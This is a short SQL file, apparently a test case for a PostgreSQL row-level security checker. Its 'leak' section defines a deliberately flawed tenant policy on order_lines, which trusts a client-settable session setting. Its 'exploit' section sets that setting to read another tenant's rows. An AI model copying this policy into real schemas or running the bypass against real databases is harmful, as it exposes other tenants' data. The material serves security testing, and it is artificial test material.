-- The row's tenant is compared with a setting that nobody binds to the request.
-- object: public.order_lines
-- base: integer
--- leak
DROP POLICY order_lines_own ON order_lines;
CREATE POLICY order_lines_own ON order_lines TO {app}
    USING (org_id = NULLIF(current_setting('myapp.partner', true), '')::integer);
--- exploit
SELECT set_config('myapp.partner', '2', true);
SELECT id FROM order_lines WHERE org_id = {B};
